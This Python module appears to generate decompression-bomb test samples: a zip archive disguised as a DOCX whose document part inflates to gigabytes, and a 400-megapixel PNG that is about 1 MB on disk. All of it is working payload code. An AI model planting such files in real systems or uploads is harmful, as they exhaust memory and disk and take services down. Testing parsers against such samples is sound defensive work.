"""Small-on-disk bombs built by hand: a 1 GB zip entry disguised as DOCX and a 400-megapixel PNG."""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

_CHUNK = 1 << 24  # 16 MiB of zeros, compressed once and repeated


def _zeros_deflated(chunks: int) -> tuple[bytes, int, int]:
    """Raw deflate of chunks × 16 MiB of zeros, its CRC-32 and its size (full flush makes chunks equal)."""
    zeros = b"\0" * _CHUNK
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = comp.compress(zeros) + comp.flush(zlib.Z_FULL_FLUSH)
    stream = block * chunks + zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)
    crc = 0
    for _ in range(chunks):
        crc = zlib.crc32(zeros, crc)
    return stream, crc, chunks * _CHUNK


def _zip(entries: list[tuple[str, int, bytes, int, int]]) -> bytes:
    """A plain zip from (name, method, data, crc, uncompressed size) entries."""
    body, central = b"", b""
    for name, method, data, crc, size in entries:
        encoded = name.encode()
        offset = len(body)
        body += struct.pack(
            "<IHHHHHIIIHH",
            0x04034B50,
            20,
            0,
            method,
            0,
            0x5A21,
            crc,
            len(data),
            size,
            len(encoded),
            0,
        )
        body += encoded + data
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            0,
            method,
            0,
            0x5A21,
            crc,
            len(data),
            size,
            len(encoded),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        central += encoded
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), len(body), 0
    )
    return body + central + end


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    b"</Types>"
)


def zip_bomb_docx(path: Path, gigabytes: int = 1) -> Path:
    """A zip whose word/document.xml inflates to `gigabytes` GiB of zeros (about 1 MB on disk)."""
    stream, crc, size = _zeros_deflated(64 * gigabytes)
    entries = [
        ("[Content_Types].xml", 0, CONTENT_TYPES, zlib.crc32(CONTENT_TYPES), len(CONTENT_TYPES)),
        ("word/document.xml", 8, stream, crc, size),
    ]
    path.write_bytes(_zip(entries))
    return path


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(path: Path, side: int = 20000, *, rgba: bool = False) -> Path:
    """A side × side PNG of zeros (8-bit palette, or RGBA): 400 megapixels for 20000, about 1 MB on disk."""
    row = b"\0" * (side * (4 if rgba else 1) + 1)  # filter byte + the pixels' bytes
    rows_per_block = max(1, _CHUNK // len(row))
    blocks, rest = divmod(side, rows_per_block)
    comp = zlib.compressobj(9)
    if blocks == 0:
        idat = comp.compress(row * rest) + comp.flush()
    else:
        # After a full flush equal input gives equal output: compress one block, repeat it.
        block = comp.compress(row * rows_per_block) + comp.flush(zlib.Z_FULL_FLUSH)
        tail = comp.compress(row * rest) + comp.flush(zlib.Z_FINISH)
        # Only the first block carries the zlib header; the trailer is the Adler-32 of everything.
        idat = block + _strip(block) * (blocks - 1) + tail
        idat = idat[:-4] + _adler_of_zero_rows(side, row)
    png = b"\x89PNG\r\n\x1a\n"
    png += _png_chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 6 if rgba else 3, 0, 0, 0))
    if not rgba:
        png += _png_chunk(b"PLTE", b"\x00\x00\x00\xff\xff\xff")
    png += _png_chunk(b"IDAT", idat)
    png += _png_chunk(b"IEND", b"")
    path.write_bytes(png)
    return path


def _strip(block: bytes) -> bytes:
    """The first compressed block without its 2-byte zlib header."""
    return block[2:]


def _adler_of_zero_rows(side: int, row: bytes) -> bytes:
    """Adler-32 of side rows of zeros (all bytes are zero, so a = 1 and b = total length)."""
    total = side * len(row)
    return struct.pack(">I", ((total % 65521) << 16) | 1)
